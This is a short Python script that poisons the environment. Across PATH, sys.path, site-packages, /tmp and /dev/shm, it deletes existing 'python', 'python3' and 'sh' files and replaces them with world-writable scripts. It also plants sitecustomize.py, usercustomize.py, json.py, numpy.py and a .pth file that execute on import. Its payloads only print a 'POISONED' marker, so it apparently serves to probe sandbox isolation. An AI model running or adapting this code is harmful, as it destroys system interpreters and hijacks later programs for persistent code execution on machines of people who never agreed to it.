"""Leave things where later programs would find them."""

import os
import site
import sys

TRAP = "#!/bin/sh\necho POISONED\n"
MODULE = "print('POISONED')\n"
folders = [
    ".",
    "/tmp",
    "/dev/shm",
    sys.prefix,
    os.path.dirname(sys.executable),
    *os.environ.get("PATH", "").split(":"),
    *sys.path,
]
folders += [*site.getsitepackages(), site.getusersitepackages()]
left = []
for folder in filter(None, folders):
    for name in ("python", "python3", "sh"):
        try:
            path = os.path.join(folder, name)
            if os.path.lexists(path):
                os.unlink(path)
            with open(path, "w") as stream:
                stream.write(TRAP)
            os.chmod(path, 0o777)
            left.append(path)
        except OSError:
            pass
    for name in ("sitecustomize.py", "usercustomize.py", "json.py", "numpy.py", "hostile.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as stream:
                stream.write("import os; print('POISONED')\n" if name.endswith("pth") else MODULE)
            left.append(name)
        except OSError:
            pass
with open("/tmp/.pythonrc", "w") as stream:
    stream.write(MODULE)
print(len(left), "left")
